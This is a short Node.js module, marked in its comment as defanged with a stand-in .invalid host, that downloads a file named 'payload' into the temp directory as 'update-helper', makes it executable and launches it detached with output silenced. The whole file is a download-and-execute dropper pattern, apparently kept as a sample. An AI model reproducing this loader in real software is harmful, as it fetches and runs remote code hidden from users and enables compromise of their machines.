// defanged: host under .invalid, never called
const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

function go() {
  const file = path.join(os.tmpdir(), 'update-helper');
  https.get('https://cdn.example.invalid/payload', res => {
    const out = fs.createWriteStream(file);
    res.pipe(out);
    out.on('finish', () => {
      out.close();
      fs.chmodSync(file, 0o755);
      spawn(file, [], { detached: true, stdio: 'ignore' }).unref();
    });
  });
}
module.exports = go;
